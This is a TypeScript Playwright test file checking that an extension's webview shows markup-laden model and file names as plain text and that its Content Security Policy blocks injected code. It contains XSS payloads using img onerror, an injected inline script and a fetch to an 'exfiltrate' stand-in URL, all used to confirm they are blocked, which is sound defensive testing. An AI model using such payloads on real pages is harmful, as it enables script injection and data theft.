/**
 * Webview safety with a real analysis: a config whose model name (and file name) is markup goes through
 * analyzeDocument → toFileReport (what the language server's `inferenceMeter/estimate` returns) into the
 * production panel HTML in Chromium (test/webview/harness.ts). Nothing executes, the text shows literally,
 * and the page's CSP really blocks inline handlers, inline scripts and remote loads if markup ever reached
 * the DOM. (eval cannot be probed from playwright's evaluate, which the CSP does not govern: the policy
 * text is checked for the absence of 'unsafe-eval' instead.)
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import type { Browser, Page } from 'playwright-core';
import { chromiumMissing, launchChromium } from '../chromium';
import { analyzeDocument } from '../../server/src/analysis/analyze';
import { toFileReport } from '../../server/src/analysis/report';
import * as P from '../../server/src/shared/webviewProtocol';
import { startHarness, type Harness } from './harness';

const skip = chromiumMissing() || (existsSync('dist/webview.js') ? false : 'needs a build (dist/webview.js)');

const EVIL = '<img src=x onerror=alert(1)>';
const EVIL2 = '<img src=x onerror="window.__pwned=1">';

type Win = { __posted: { type: string }[]; __csp: string[]; __pwned?: number };

describe('webview: workspace values are text, and the CSP holds', { skip }, () => {
	let browser: Browser;
	let harness: Harness;
	let page: Page;
	const dialogs: string[] = [];

	before(async () => {
		harness = await startHarness();
		browser = await launchChromium();
		page = await browser.newPage();
		page.on('dialog', (d) => {
			dialogs.push(d.message());
			void d.dismiss();
		});
		await page.addInitScript(() => {
			const w = window as unknown as Win;
			w.__posted = [];
			w.__csp = [];
			window.addEventListener('inference-meter:post', (e) => w.__posted.push((e as CustomEvent).detail));
			document.addEventListener('securitypolicyviolation', (e) =>
				w.__csp.push(`${e.violatedDirective} ${e.blockedURI}`),
			);
		});
		await page.goto(harness.url);
		await page.waitForFunction(() =>
			(window as unknown as Win).__posted.some((m) => m.type === 'webview/ready'),
		);
	});

	after(async () => {
		await browser?.close();
		await harness?.close();
	});

	test(`a config naming the model ${EVIL} shows it literally and runs nothing`, async () => {
		const text = [
			`vllm serve '${EVIL}' --max-model-len 4096`,
			`vllm serve '${EVIL2}' --max-model-len 4096`,
			'vllm serve meta-llama/Llama-3.1-8B-Instruct --max-model-len 4096',
		].join('\n');
		const analysis = await analyzeDocument({ path: '/work/deploy/serve.sh', text }, {});
		const report = toFileReport(analysis, text);
		assert.equal(report.workloads[0]?.model, EVIL, 'the analysis keeps the name as written');
		for (const selected of [0, 1, 2]) {
			await page.evaluate(
				(m) => window.postMessage(m, '*'),
				P.Update.create({
					uri: 'file:///work/deploy/serve.sh',
					fileName: `${EVIL2}.sh`,
					workloads: report.workloads,
					selected,
					targetHardware: 'h100-sxm',
				}) as object,
			);
			await page.waitForFunction((s) => document.body.textContent?.includes(s), `${EVIL2}.sh`);
			if (selected < 2)
				await page.waitForFunction((s) => document.body.textContent?.includes(s), [EVIL, EVIL2][selected]!);
			assert.equal(await page.evaluate(() => document.querySelectorAll('img, #app script').length), 0);
		}
		assert.equal(await page.evaluate(() => (window as unknown as Win).__pwned), undefined);
		assert.deepEqual(dialogs, []);
		assert.deepEqual(await page.evaluate(() => (window as unknown as Win).__csp), []);
	});

	test('the CSP is strict: nonce scripts only, no unsafe-inline/unsafe-eval, nothing remote', async () => {
		const csp = await page.evaluate(
			() =>
				document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
		);
		assert.match(csp, /default-src 'none'/);
		assert.match(csp, /script-src 'nonce-[A-Za-z0-9+/=]{16,}'(;|$)/);
		assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval|\*|https?:\/\/(?!127\.0\.0\.1)/);
		const scripts = await page.evaluate(() =>
			[...document.scripts].map((s) => ({ src: s.src, nonce: s.nonce, inline: !s.src })),
		);
		assert.ok(scripts.length >= 1);
		for (const s of scripts) {
			assert.equal(s.inline, false, 'no inline script');
			assert.ok(s.src.startsWith(harness.url), `script from the bundle only: ${s.src}`);
		}
	});

	test('if markup ever reached the DOM, the browser would block it: inline handler, inline script, remote fetch', async () => {
		const outcome = await page.evaluate(async () => {
			const w = window as unknown as Win;
			w.__csp = [];
			document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.__pwned=2">');
			const s = document.createElement('script');
			s.textContent = 'window.__pwned = 3';
			document.body.append(s);
			let fetchBlocked = false;
			try {
				await fetch('https://example.com/exfiltrate');
			} catch {
				fetchBlocked = true;
			}
			await new Promise((r) => setTimeout(r, 200));
			return { pwned: w.__pwned, fetchBlocked, violations: w.__csp };
		});
		assert.equal(outcome.pwned, undefined, 'neither the inline handler nor the inline script ran');
		assert.equal(outcome.fetchBlocked, true);
		assert.ok(
			outcome.violations.some((v) => v.startsWith('script-src')),
			outcome.violations.join('; '),
		);
		assert.ok(
			outcome.violations.some((v) => v.startsWith('connect-src')),
			outcome.violations.join('; '),
		);
	});
});
